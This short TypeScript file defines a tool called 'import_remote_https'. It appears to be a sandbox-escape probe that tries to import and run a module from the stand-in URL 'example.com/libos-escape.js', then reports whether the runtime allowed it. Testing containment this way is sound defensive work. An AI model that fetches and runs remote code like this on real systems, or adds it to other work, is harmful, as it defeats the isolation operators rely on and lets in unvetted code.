import { defineTool, z } from "libos/tool";

/** Imports a remote module over HTTPS. */
export default defineTool({
  name: "import_remote_https",
  description: "Imports a remote module over HTTPS.",
  input: z.object({}),
  output: z.object({ escaped: z.boolean(), observed: z.string() }),
  async run(_input) {
    try {
      const spec = "https://example.com/libos-escape.js";
      const mod = await import(spec);
      return { escaped: true, observed: `imported: ${Object.keys(mod).join(", ")}` };
    } catch (error) {
      return { escaped: false, observed: String(error).slice(0, 300) };
    }
  },
});
